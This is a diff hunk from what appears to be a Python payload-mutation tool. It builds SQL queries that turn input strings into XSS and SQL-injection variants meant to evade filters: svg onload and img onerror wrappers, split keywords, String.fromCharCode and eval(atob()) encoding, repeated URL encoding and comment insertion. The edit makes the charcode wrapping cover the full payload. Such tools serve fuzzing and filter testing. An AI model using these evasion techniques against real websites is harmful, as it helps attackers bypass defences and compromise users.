@@ -96,7 +96,7 @@ MUTATE = " UNION ALL ".join([f"SELECT row_id, '{k}' AS mutator, x, {expr(e)} AS
     "SELECT row_id, 'svg', x, '<svg/onload='||x||'>' FROM mw", "SELECT row_id, 'event', x, '<img src=x onerror=\"'||x||'\">' FROM mw"])
 CODE = " UNION ALL ".join([
     "SELECT row_id, 'logic_split' AS mutator, x, regexp_replace(x,'(?i)(u)(nion)|(s)(elect)|(s)(cript)|(a)(lert)','\\1\\3\\5\\7''+''\\2\\4\\6\\8','g') AS variant FROM mw",
-    f"SELECT row_id, 'charcode_wrap', x, CASE WHEN length(x)>40 THEN x ELSE 'String.fromCharCode('||{D.codes('substr(x,1,20)')}||')' END FROM mw",
+    f"SELECT row_id, 'charcode_wrap', x, 'String.fromCharCode('||{D.codes('x')}||')' FROM mw",
     "SELECT row_id, 'nested_eval', x, CASE WHEN length(x)<30 THEN 'eval(atob('''||x||'''))' ELSE 'eval(/*x*/('||x||'))' END FROM mw", "SELECT row_id, 'comment_inject', x, replace(x,' ','/**/') FROM mw"])
 E = {n: e for n, _, e in Q.TECHNIQUES}
 TEMPL = {"repeat_url_encode": "url_encode(url_encode(url_encode(x)))", "double_url_encode_plus": "url_encode(url_encode(x))",
